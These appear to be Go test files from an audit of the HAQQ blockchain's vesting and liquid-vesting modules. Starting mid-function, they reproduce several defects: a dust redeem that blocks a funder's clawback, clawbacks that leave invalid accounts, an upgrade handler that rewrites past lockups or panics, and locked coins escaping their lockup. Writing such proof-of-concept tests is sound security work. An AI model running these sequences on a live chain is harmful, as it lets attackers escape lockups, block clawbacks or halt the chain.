	// reference: sum of the periods whose end (computed without wrap-around) is <= now
	ref := sdk.NewCoins()
	end := sdkmath.NewInt(va.GetStartTime())
	for _, p := range va.LockupPeriods {
		// lengths that were stored as wrapped negatives stand for "+2^64"
		l := sdkmath.NewInt(p.Length)
		if p.Length < 0 {
			l = l.Add(sdkmath.NewIntFromUint64(1 << 63).MulRaw(2))
		}
		end = end.Add(l)
		if end.LTE(sdkmath.NewInt(now.Unix())) {
			ref = ref.Add(p.Amount...)
		}
	}
	unlocked := va.GetUnlockedCoins(now)
	suite.T().Logf("V after redeem: start=%d end=%d periods=%d", va.GetStartTime(), va.GetEndTime(), len(va.LockupPeriods))
	suite.T().Logf("time %d (first unlock %d): unlocked by the schedule %s, sum of lockup periods ended by now %s, bank spendable %s",
		now.Unix(), firstUnlock, unlocked, ref, bk.SpendableCoins(suite.ctx, vAddr))

	// V moves the locked coins out with an ordinary bank send
	// (all but 1 ISLM, which stays behind for the fee)
	moved := sdk.NewCoin("aISLM", isl.MulRaw(2999))
	send := banktypes.NewMsgSend(vAddr, outAddr, sdk.NewCoins(moved))
	res, err = testutil.DeliverTx(suite.ctx, suite.app, vPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, send)
	suite.Commit()
	outBal := bk.GetBalance(suite.ctx, outAddr, "aISLM").Amount
	suite.T().Logf("MsgSend of %s out of V: err=%v code=%d; recipient balance %s", moved, err, res.Code, outBal)

	suite.Assert().True(types.CoinEq(unlocked, ref),
		"schedule read at %d yields %s, the periods ended by then sum to %s", now.Unix(), unlocked, ref)
	suite.Require().True(outBal.IsZero(),
		"lockup escaped: %s of the coins locked until %d reached another account at %d", outBal, firstUnlock, now.Unix())
}
