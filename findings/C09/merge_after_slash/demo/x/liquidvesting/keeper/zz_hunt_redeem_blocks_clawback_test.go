package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	haqqstakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// Same defect as x/vesting/keeper/zz_hunt_clawback_after_slash_test.go, but the
// merge that "rounds out" DelegatedFree is not made by the funder: ANY account
// holding one unit of a liquid token can redeem it into the vesting account
// (Redeem -> ApplyVestingSchedule(merge) -> addGrant). Afterwards the recorded
// funder's clawback is refused although every unvested coin is in the account.
func (suite *KeeperTestSuite) TestZZHuntRedeemDustBlocksClawback() {
	suite.SetupTest()
	denom := suite.app.StakingKeeper.BondDenom(suite.ctx)
	stakingSrv := haqqstakingkeeper.NewMsgServerImpl(&suite.app.StakingKeeper)

	one := sdkmath.NewIntWithDecimal(1, 18)
	isl := func(n int64) sdk.Coins { return sdk.NewCoins(sdk.NewCoin(denom, one.MulRaw(n))) }

	funderAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	vaAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	destAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	other := sdk.AccAddress(tests.GenerateAddress().Bytes())
	helper := sdk.AccAddress(tests.GenerateAddress().Bytes()) // holder of a liquid token

	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funderAddr, isl(10_000)))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, other, isl(1_000_000)))
	// a validator with a consensus key CometBFT knows (the suite's one uses an eth key), bonded with own stake
	consPriv := ed25519.GenPrivKey()
	validator, err := stakingtypes.NewValidator(sdk.ValAddress(other), consPriv.PubKey(), stakingtypes.Description{})
	suite.Require().NoError(err)
	validator = sdkstakingkeeper.TestingUpdateValidator(suite.app.StakingKeeper.Keeper, suite.ctx, validator, true)
	suite.Require().NoError(suite.app.StakingKeeper.Hooks().AfterValidatorCreated(suite.ctx, validator.GetOperator()))
	suite.Require().NoError(suite.app.StakingKeeper.SetValidatorByConsAddr(suite.ctx, validator))
	suite.validator = validator
	_, err = stakingSrv.Delegate(suite.ctx, stakingtypes.NewMsgDelegate(other, suite.validator.GetOperator(), isl(1_000_000)[0]))
	suite.Require().NoError(err)
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)

	t0 := suite.ctx.BlockTime()

	// the helper owns a fully vested, still locked grant and liquidates it (real MsgLiquidate)
	helperAmt := sdk.NewCoins(sdk.NewInt64Coin(denom, 2_000_000))
	helperAcc := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(helper), sdk.AccAddress(types.ModuleName), helperAmt, t0.Add(-10*time.Second),
		sdkvesting.Periods{{Length: 300_000, Amount: helperAmt}},
		sdkvesting.Periods{{Length: 0, Amount: helperAmt}}, nil,
	)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, helper, helperAmt))
	suite.app.AccountKeeper.SetAccount(suite.ctx, helperAcc)
	resL, err := suite.app.LiquidVestingKeeper.Liquidate(suite.ctx, types.NewMsgLiquidate(helper, helper, helperAmt[0]))
	suite.Require().NoError(err)
	liquidDenom := resL.Minted.Denom

	// the funder's grant: 1000 ISLM, 500 vest after 10 s, 500 after 100000 s, all locked for 200000 s
	vesting := sdkvesting.Periods{{Length: 10, Amount: isl(500)}, {Length: 99_990, Amount: isl(500)}}
	lockup := sdkvesting.Periods{{Length: 200_000, Amount: isl(1000)}}
	msgCreate := vestingtypes.NewMsgCreateClawbackVestingAccount(funderAddr, vaAddr, t0, lockup, vesting, false)
	suite.Require().NoError(msgCreate.ValidateBasic())
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(suite.ctx, msgCreate)
	suite.Require().NoError(err)

	// t0+10: the grantee delegates its 500 vested (locked) ISLM; the validator is slashed 0.01 % for downtime
	ctx := suite.ctx.WithBlockTime(t0.Add(10 * time.Second))
	_, err = stakingSrv.Delegate(ctx, stakingtypes.NewMsgDelegate(vaAddr, suite.validator.GetOperator(), isl(500)[0]))
	suite.Require().NoError(err)
	val, found := suite.app.StakingKeeper.GetValidator(ctx, suite.validator.GetOperator())
	suite.Require().True(found)
	consAddr, err := val.GetConsAddr()
	suite.Require().NoError(err)
	power := val.GetConsensusPower(suite.app.StakingKeeper.PowerReduction(ctx))
	suite.app.StakingKeeper.Slash(ctx, consAddr, ctx.BlockHeight(), power, sdk.NewDecWithPrec(1, 4))

	unvested := isl(500)

	// control: the funder's clawback works at this point
	{
		cctx, _ := ctx.CacheContext()
		_, err := suite.app.VestingKeeper.Clawback(cctx, vestingtypes.NewMsgClawback(funderAddr, vaAddr, destAddr))
		suite.Require().NoError(err)
		suite.Require().Equal(unvested.String(), suite.app.BankKeeper.GetAllBalances(cctx, destAddr).String())
	}

	// the helper redeems ONE unit of its liquid token into the vesting account
	_, err = suite.app.LiquidVestingKeeper.Redeem(ctx, types.NewMsgRedeem(helper, vaAddr, sdk.NewInt64Coin(liquidDenom, 1)))
	suite.Require().NoError(err)

	acc, err := suite.app.VestingKeeper.GetClawbackVestingAccount(ctx, vaAddr)
	suite.Require().NoError(err)
	// the redeemed unit is vested, the unvested amount is unchanged and fully held by the account
	suite.Require().Equal(unvested.String(), acc.GetVestingCoins(ctx.BlockTime()).String())
	balance := suite.app.BankKeeper.GetBalance(ctx, vaAddr, denom)
	suite.T().Logf("vesting account: balance %s, unvested %s, DelegatedFree %s", balance, unvested, acc.DelegatedFree)
	suite.Require().True(balance.Amount.GTE(unvested.AmountOf(denom)))

	// the recorded funder claws back
	_, err = suite.app.VestingKeeper.Clawback(ctx, vestingtypes.NewMsgClawback(funderAddr, vaAddr, destAddr))
	suite.Require().NoError(err, "clawback by the recorded funder must transfer the unvested %s", unvested)
	suite.Require().Equal(unvested.String(), suite.app.BankKeeper.GetAllBalances(ctx, destAddr).String(),
		"destination must receive exactly the unvested amount")
}
