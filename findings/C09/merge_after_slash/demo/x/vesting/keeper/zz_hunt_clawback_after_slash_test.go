package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C09): a clawback triggered by the recorded funder transfers exactly
// the unvested amount to the destination and keeps every vested coin.
//
// Unvested coins can never be delegated (x/staking wrapper), so they are always
// in the account's bank balance. Nevertheless, after
//
//	grant -> delegate VESTED (still locked) coins -> validator slashed by a dust
//	fraction -> a further grant is merged (addGrant "rounds out" DelegatedFree)
//
// the funder's MsgClawback is refused with "insufficient funds" and nothing is
// transferred.
func (suite *KeeperTestSuite) TestZZHuntClawbackAfterSlashAndMerge() {
	suite.SetupTest()
	denom := suite.app.StakingKeeper.BondDenom(suite.ctx)
	stakingSrv := stakingkeeper.NewMsgServerImpl(&suite.app.StakingKeeper)

	one := sdkmath.NewIntWithDecimal(1, 18)
	isl := func(n int64) sdk.Coins { return sdk.NewCoins(sdk.NewCoin(denom, one.MulRaw(n))) }

	funderAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	vaAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	destAddr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	other := sdk.AccAddress(tests.GenerateAddress().Bytes())

	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funderAddr, isl(10_000)))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, other, isl(1_000_000)))

	// give the validator some stake of its own, so that it is bonded and a
	// slash takes the same fraction from every delegation
	_, err := stakingSrv.Delegate(suite.ctx, stakingtypes.NewMsgDelegate(other, suite.validator.GetOperator(), isl(1_000_000)[0]))
	suite.Require().NoError(err)
	suite.app.StakingKeeper.BlockValidatorUpdates(suite.ctx)

	t0 := suite.ctx.BlockTime()

	// grant: 1000 ISLM, 500 vest after 10 s, 500 after 100000 s; everything stays
	// locked for 200000 s
	vesting := sdkvesting.Periods{
		{Length: 10, Amount: isl(500)},
		{Length: 99_990, Amount: isl(500)},
	}
	lockup := sdkvesting.Periods{{Length: 200_000, Amount: isl(1000)}}
	msgCreate := types.NewMsgCreateClawbackVestingAccount(funderAddr, vaAddr, t0, lockup, vesting, false)
	suite.Require().NoError(msgCreate.ValidateBasic())
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(suite.ctx, msgCreate)
	suite.Require().NoError(err)

	// t0+10: 500 ISLM are vested (still locked). The grantee delegates them, which is allowed.
	ctx := suite.ctx.WithBlockTime(t0.Add(10 * time.Second))
	_, err = stakingSrv.Delegate(ctx, stakingtypes.NewMsgDelegate(vaAddr, suite.validator.GetOperator(), isl(500)[0]))
	suite.Require().NoError(err)
	// ... and cannot delegate a single unvested coin on top
	_, err = stakingSrv.Delegate(ctx, stakingtypes.NewMsgDelegate(vaAddr, suite.validator.GetOperator(), sdk.NewCoin(denom, sdkmath.OneInt())))
	suite.Require().Error(err)

	// the validator is slashed for downtime: 0.01 %
	val, found := suite.app.StakingKeeper.GetValidator(ctx, suite.validator.GetOperator())
	suite.Require().True(found)
	consAddr, err := val.GetConsAddr()
	suite.Require().NoError(err)
	power := val.GetConsensusPower(suite.app.StakingKeeper.PowerReduction(ctx))
	suite.app.StakingKeeper.Slash(ctx, consAddr, ctx.BlockHeight(), power, sdk.NewDecWithPrec(1, 4))

	bonded := suite.app.StakingKeeper.GetDelegatorBonded(ctx, vaAddr)
	suite.T().Logf("delegation of the vesting account after the slash: %s (was %s)", bonded, isl(500)[0].Amount)
	suite.Require().True(bonded.LT(isl(500)[0].Amount))

	unvested := isl(500)

	// control: without a merge the funder's clawback works and moves exactly the unvested coins
	{
		cctx, _ := ctx.CacheContext()
		_, err := suite.app.VestingKeeper.Clawback(cctx, types.NewMsgClawback(funderAddr, vaAddr, destAddr))
		suite.Require().NoError(err)
		suite.Require().Equal(unvested.String(), suite.app.BankKeeper.GetAllBalances(cctx, destAddr).String())
	}

	// the funder merges another (tiny, not yet vested) grant into the account
	grant2 := sdk.NewCoins(sdk.NewCoin(denom, sdkmath.NewInt(1000)))
	msgMerge := types.NewMsgCreateClawbackVestingAccount(
		funderAddr, vaAddr, ctx.BlockTime(),
		sdkvesting.Periods{{Length: 200_000, Amount: grant2}},
		sdkvesting.Periods{{Length: 100_000, Amount: grant2}},
		true,
	)
	suite.Require().NoError(msgMerge.ValidateBasic())
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx, msgMerge)
	suite.Require().NoError(err)
	unvested = unvested.Add(grant2...)

	acc, err := suite.app.VestingKeeper.GetClawbackVestingAccount(ctx, vaAddr)
	suite.Require().NoError(err)
	suite.Require().Equal(unvested.String(), acc.GetVestingCoins(ctx.BlockTime()).String())
	balance := suite.app.BankKeeper.GetBalance(ctx, vaAddr, denom)
	suite.T().Logf("vesting account: balance %s, unvested %s, DelegatedFree %s", balance, unvested, acc.DelegatedFree)
	// every unvested coin is in the account's balance
	suite.Require().True(balance.Amount.GTE(unvested.AmountOf(denom)))

	// the recorded funder claws back
	destBefore := suite.app.BankKeeper.GetAllBalances(ctx, destAddr)
	_, err = suite.app.VestingKeeper.Clawback(ctx, types.NewMsgClawback(funderAddr, vaAddr, destAddr))
	suite.Require().NoError(err, "clawback by the recorded funder must transfer the unvested %s", unvested)
	got := suite.app.BankKeeper.GetAllBalances(ctx, destAddr).Sub(destBefore...)
	suite.Require().Equal(unvested.String(), got.String(), "destination must receive exactly the unvested amount")
}
