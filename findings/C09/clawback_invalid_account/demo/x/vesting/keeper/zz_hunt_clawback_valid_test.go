package keeper_test

import (
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C09): a clawback "... transfers exactly the unvested amount to the
// destination, keeps every vested coin (still subject to its lockup) and
// leaves a valid account".
//
// Case A: the funder claws back before the first vesting event (the most common
// use of clawback: "before cliff"). The transfer is right, but the account that
// is written back has EndTime == StartTime, which ClawbackVestingAccount.Validate
// rejects -- and so does the auth genesis validation of an exported state.
func (suite *KeeperTestSuite) TestZZHuntClawbackBeforeCliffLeavesInvalidAccount() {
	suite.SetupTest()
	ctx := sdk.WrapSDKContext(suite.ctx)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funder, balances))

	// 1000aISLM, 4 x 250 vesting every 2000s, unlock at 5000s (the fixtures of msg_server_test.go)
	_, err := suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx,
		types.NewMsgCreateClawbackVestingAccount(funder, vestingAddr, suite.ctx.BlockTime(), lockupPeriods, vestingPeriods, false))
	suite.Require().NoError(err)

	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, vestingAddr).(*types.ClawbackVestingAccount)
	suite.Require().NoError(acc.Validate(), "freshly created account is valid")
	suite.Require().NoError(authtypes.ValidateGenesis(*suite.app.AccountKeeper.ExportGenesis(suite.ctx)), "state is exportable before the clawback")

	// 100s later, still before the first vesting event
	suite.ctx = suite.ctx.WithBlockTime(suite.ctx.BlockTime().Add(100 * time.Second))
	ctx = sdk.WrapSDKContext(suite.ctx)
	_, err = suite.app.VestingKeeper.Clawback(ctx, types.NewMsgClawback(funder, vestingAddr, nil))
	suite.Require().NoError(err)

	// the money part of the property holds
	suite.Require().Equal(balances, suite.app.BankKeeper.GetAllBalances(suite.ctx, funder))
	suite.Require().True(suite.app.BankKeeper.GetAllBalances(suite.ctx, vestingAddr).IsZero())

	// ... the "leaves a valid account" part does not
	acc = suite.app.AccountKeeper.GetAccount(suite.ctx, vestingAddr).(*types.ClawbackVestingAccount)
	suite.T().Logf("account after clawback: start=%d end=%d originalVesting=%q #vestingPeriods=%d #lockupPeriods=%d",
		acc.GetStartTime(), acc.GetEndTime(), acc.OriginalVesting.String(), len(acc.VestingPeriods), len(acc.LockupPeriods))
	suite.Assert().NoError(acc.Validate(), "the account left by a clawback must be a valid account")
	suite.Assert().NoError(authtypes.ValidateGenesis(*suite.app.AccountKeeper.ExportGenesis(suite.ctx)),
		"the state after a clawback must still export to a genesis that passes validation")
}

// Case B: the same defect when the account still HOLDS vested coins after the
// clawback. Two grants with the same start time:
//
//	grant 1: 10aISLM, lockup only  (unlock after 50s, vesting defaults to "instant": {Length 0})
//	grant 2: 10aISLM, vesting only (vests after 1000s, lockup defaults to "instant": {Length 0})
//
// One second after the start the funder claws back: grant 2 is unvested and is
// returned, grant 1 is vested and stays. What remains is OriginalVesting=10aISLM
// with one zero-length vesting period and one zero-length lockup period, so
// EndTime == StartTime and Validate() fails although the account owns vested coins.
func (suite *KeeperTestSuite) TestZZHuntPartialClawbackLeavesInvalidAccount() {
	suite.SetupTest()
	ctx := sdk.WrapSDKContext(suite.ctx)
	ten := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 10))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funder, balances))
	start := suite.ctx.BlockTime()

	_, err := suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx,
		types.NewMsgCreateClawbackVestingAccount(funder, vestingAddr, start, sdkvesting.Periods{{Length: 50, Amount: ten}}, nil, false))
	suite.Require().NoError(err)
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx,
		types.NewMsgCreateClawbackVestingAccount(funder, vestingAddr, start, nil, sdkvesting.Periods{{Length: 1000, Amount: ten}}, true))
	suite.Require().NoError(err)

	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, vestingAddr).(*types.ClawbackVestingAccount)
	suite.Require().NoError(acc.Validate(), "merged account is valid before the clawback")

	suite.ctx = suite.ctx.WithBlockTime(start.Add(time.Second))
	ctx = sdk.WrapSDKContext(suite.ctx)
	funderBefore := suite.app.BankKeeper.GetBalance(suite.ctx, funder, "aISLM")
	_, err = suite.app.VestingKeeper.Clawback(ctx, types.NewMsgClawback(funder, vestingAddr, nil))
	suite.Require().NoError(err)

	// exactly the unvested 10 went back, the vested 10 stayed
	suite.Require().Equal(funderBefore.Add(ten[0]), suite.app.BankKeeper.GetBalance(suite.ctx, funder, "aISLM"))
	suite.Require().Equal(ten, suite.app.BankKeeper.GetAllBalances(suite.ctx, vestingAddr))

	acc = suite.app.AccountKeeper.GetAccount(suite.ctx, vestingAddr).(*types.ClawbackVestingAccount)
	suite.T().Logf("account after clawback: start=%d end=%d originalVesting=%q #vestingPeriods=%d #lockupPeriods=%d",
		acc.GetStartTime(), acc.GetEndTime(), acc.OriginalVesting.String(), len(acc.VestingPeriods), len(acc.LockupPeriods))
	suite.Assert().NoError(acc.Validate(), "the account left by a clawback must be a valid account")
	suite.Assert().NoError(authtypes.ValidateGenesis(*suite.app.AccountKeeper.ExportGenesis(suite.ctx)),
		"the state after a clawback must still export to a genesis that passes validation")
}
