package v176_test

import (
	"testing"
	"time"

	"cosmossdk.io/math"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	v176 "github.com/haqq-network/haqq/app/upgrades/v1.7.6"
	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

const (
	zzDay   = int64(86_400)
	zzMonth = 30 * zzDay
	// 2024-05-01 00:00:00 UTC
	zzStart = int64(1714521600)
)

func zzISLM(n int64) sdk.Coins {
	return sdk.NewCoins(sdk.NewCoin("aISLM", math.NewIntWithDecimal(n, 18)))
}

func zzSetup(t *testing.T, blockTime int64) (*app.Haqq, sdk.Context) {
	chainID := utils.MainNetChainID + "-1"
	haqq, _ := app.Setup(false, nil, chainID)
	ctx := haqq.BaseApp.NewContext(false, tmproto.Header{Height: 1, ChainID: chainID, Time: time.Unix(blockTime, 0).UTC()})
	return haqq, ctx
}

// Property (C09): a schedule read at time t yields the sum of all periods ended
// by t, is non-decreasing, and equals the total from the end on; locked+unlocked
// always equal the original grant; the account stays valid.
//
// FixLockupPeriods (run by the v1.7.6 upgrade handler) averages the amounts of the
// periods that are still in the FUTURE at the upgrade block time, but then writes
// that average into EVERY period, the past ones included.
func TestZZHuntFixLockupPeriodsRewritesPastPeriods(t *testing.T) {
	// the upgrade block: 2024-07-05, i.e. after the account's unlocks of 2024-05-31 and 2024-06-30
	upgradeTime := zzStart + 65*zzDay
	haqq, ctx := zzSetup(t, upgradeTime)

	// lockup: 4 x 300 ISLM, then 20 x 90 ISLM, one event every 30 days; fully vested.
	// first unlock 2024-05-31 00:00 (> LockupLengthThreshold 2024-05-30 04:36), end 2026-04-21 (> EndTimeForCheck)
	lockup := sdkvesting.Periods{}
	for i := 0; i < 4; i++ {
		lockup = append(lockup, sdkvesting.Period{Length: zzMonth, Amount: zzISLM(300)})
	}
	for i := 0; i < 20; i++ {
		lockup = append(lockup, sdkvesting.Period{Length: zzMonth, Amount: zzISLM(90)})
	}
	total := zzISLM(3000)
	require.Equal(t, total.String(), lockup.TotalAmount().String())
	require.Greater(t, zzStart+zzMonth, int64(v176.LockupLengthThreshold))

	addr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	sink := sdk.AccAddress(tests.GenerateAddress().Bytes())
	acc := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(addr), sdk.AccAddress(tests.GenerateAddress().Bytes()), total,
		time.Unix(zzStart, 0).UTC(), lockup, sdkvesting.Periods{{Length: 0, Amount: total}}, nil,
	)
	require.Greater(t, acc.GetEndTime(), int64(v176.EndTimeForCheck))
	require.NoError(t, acc.Validate())
	haqq.AccountKeeper.SetAccount(ctx, acc)
	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, addr, total))

	// before the upgrade: 600 ISLM are unlocked, and the holder spends them
	now := ctx.BlockTime()
	require.Equal(t, zzISLM(600).String(), acc.GetUnlockedCoins(now).String())
	require.NoError(t, haqq.BankKeeper.SendCoins(ctx, addr, sink, zzISLM(600)))

	require.NoError(t, v176.FixLockupPeriods(ctx, haqq.AccountKeeper))

	after, ok := haqq.AccountKeeper.GetAccount(ctx, addr).(*vestingtypes.ClawbackVestingAccount)
	require.True(t, ok)
	t.Logf("original vesting            : %s", after.OriginalVesting)
	t.Logf("sum of lockup periods after  : %s", after.LockupPeriods.TotalAmount())
	t.Logf("unlocked at the upgrade time : %s (was %s)", after.GetUnlockedCoins(now), zzISLM(600))
	t.Logf("bank balance %s, locked %s", haqq.BankKeeper.GetBalance(ctx, addr, "aISLM"), haqq.BankKeeper.LockedCoins(ctx, addr))

	// what was unlocked before the upgrade is still unlocked (the schedule is non-decreasing in t,
	// and an upgrade that only evens out FUTURE periods does not touch the past)
	require.Equal(t, zzISLM(600).String(), after.GetUnlockedCoins(now).String(),
		"coins unlocked before the upgrade must stay unlocked")
	// the periods still add up to the grant: the schedule reaches the total at its end
	require.Equal(t, after.OriginalVesting.String(), after.LockupPeriods.TotalAmount().String(),
		"the lockup periods must add up to the original grant")
	// and the account is valid (auth ValidateGenesis runs this on every exported genesis)
	require.NoError(t, after.Validate())
}

// A clawback before the first vesting event leaves a VALID account without any
// periods. FixLockupPeriods indexes LockupPeriods[0] of every clawback vesting
// account unconditionally, so the upgrade handler panics (chain halt at the
// upgrade height) as soon as one such account exists.
func TestZZHuntFixLockupPeriodsPanicsOnClawedBackAccount(t *testing.T) {
	haqq, ctx := zzSetup(t, zzStart+10)

	funder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	addr := sdk.AccAddress(tests.GenerateAddress().Bytes())
	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, funder, zzISLM(1000)))

	msg := vestingtypes.NewMsgCreateClawbackVestingAccount(funder, addr, time.Unix(zzStart, 0).UTC(),
		sdkvesting.Periods{{Length: zzMonth, Amount: zzISLM(1000)}},
		sdkvesting.Periods{{Length: zzMonth, Amount: zzISLM(1000)}}, false)
	require.NoError(t, msg.ValidateBasic())
	_, err := haqq.VestingKeeper.CreateClawbackVestingAccount(ctx, msg)
	require.NoError(t, err)
	_, err = haqq.VestingKeeper.Clawback(ctx, vestingtypes.NewMsgClawback(funder, addr, nil))
	require.NoError(t, err)

	acc, err := haqq.VestingKeeper.GetClawbackVestingAccount(ctx, addr)
	require.NoError(t, err)
	require.NoError(t, acc.Validate())
	require.Empty(t, acc.LockupPeriods)

	require.NotPanics(t, func() { _ = v176.FixLockupPeriods(ctx, haqq.AccountKeeper) })
}
