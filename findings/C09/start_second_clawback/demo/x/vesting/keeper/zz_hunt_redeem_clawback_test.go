package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	liquidtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C09): "A clawback ... transfers exactly the unvested amount to the
// destination, keeps every vested coin (still subject to its lockup) and leaves
// a valid account."
//
// History exercised here (all messages at ONE block time, as in one tx):
//
//	G  -> L : 3000 ISLM, vested at once, locked in 3 steps of 100000 s   (honest grant)
//	L  -> V : 1 aISLM grant whose schedule starts far in the future      (L is V's funder)
//	L       : MsgLiquidate 3000 ISLM of its vested-but-locked coins
//	L  -> V : MsgRedeem of the liquid token into V
//	L       : MsgClawback on V (destination L)
//
// The 3000 ISLM were vested in L (liquidation is refused otherwise) and are
// re-granted by Redeem with an "instant" vesting period, so they are vested
// coins: the clawback must leave them in V and they must stay locked.
var (
	zzISLM   = sdkmath.NewIntWithDecimal(1, 18)
	zzLocked = sdk.NewCoin("aISLM", zzISLM.MulRaw(3000))
	zzThird  = sdk.NewCoins(sdk.NewCoin("aISLM", zzISLM.MulRaw(1000)))
	zzFree   = sdk.NewCoin("aISLM", zzISLM.MulRaw(10))
)

func (suite *KeeperTestSuite) TestZZRedeemThenClawbackSameBlockKeeper() {
	suite.SetupTest()
	suite.Commit()
	ctx := suite.ctx
	now := ctx.BlockTime()

	gAddr, _ := utiltx.NewAccAddressAndKey()
	lAddr, _ := utiltx.NewAccAddressAndKey()
	vAddr, _ := utiltx.NewAccAddressAndKey()

	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, gAddr, sdk.NewCoins(zzLocked)))
	suite.Require().NoError(testutil.FundAccount(ctx, suite.app.BankKeeper, lAddr, sdk.NewCoins(zzFree)))

	// G grants L 3000 ISLM: vested immediately, locked for 100000/200000/300000 s.
	// (L exists as a plain account, so the grant goes through MsgConvertIntoVestingAccount.)
	lockup := sdkvesting.Periods{
		{Length: 100000, Amount: zzThird},
		{Length: 100000, Amount: zzThird},
		{Length: 100000, Amount: zzThird},
	}
	_, err := suite.app.VestingKeeper.ConvertIntoVestingAccount(ctx, types.NewMsgConvertIntoVestingAccount(
		gAddr, lAddr, now.Add(-10*time.Second), lockup, nil, false, false, nil,
	))
	suite.Require().NoError(err)

	bk := suite.app.BankKeeper
	spendableBefore := bk.SpendableCoins(ctx, lAddr).AmountOf("aISLM")
	suite.Require().Equal(zzFree.Amount.String(), spendableBefore.String(), "only L's own free coins are spendable, the grant is locked")

	// L creates V with a schedule that starts in the future (1 aISLM).
	one := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1))
	_, err = suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx, types.NewMsgCreateClawbackVestingAccount(
		lAddr, vAddr, now.Add(1_000_000*time.Second),
		sdkvesting.Periods{{Length: 1, Amount: one}}, sdkvesting.Periods{{Length: 1, Amount: one}}, false,
	))
	suite.Require().NoError(err)

	// L liquidates its vested-but-locked 3000 ISLM ...
	resp, err := suite.app.LiquidVestingKeeper.Liquidate(ctx, liquidtypes.NewMsgLiquidate(lAddr, lAddr, zzLocked))
	suite.Require().NoError(err)
	// ... redeems the liquid token into V ...
	_, err = suite.app.LiquidVestingKeeper.Redeem(ctx, liquidtypes.NewMsgRedeem(lAddr, vAddr, resp.Minted))
	suite.Require().NoError(err)
	vBalAfterRedeem := bk.GetBalance(ctx, vAddr, "aISLM").Amount
	suite.Require().Equal(zzLocked.Amount.AddRaw(1).String(), vBalAfterRedeem.String())

	// ... and claws V back (L is V's funder), all at the same block time.
	_, err = suite.app.VestingKeeper.Clawback(ctx, types.NewMsgClawback(lAddr, vAddr, nil))
	suite.Require().NoError(err)

	vBal := bk.GetBalance(ctx, vAddr, "aISLM").Amount
	spendableAfter := bk.SpendableCoins(ctx, lAddr).AmountOf("aISLM")
	firstUnlock := now.Add(-10 * time.Second).Add(100000 * time.Second)
	suite.T().Logf("block time %d, first unlock of the grant at %d", now.Unix(), firstUnlock.Unix())
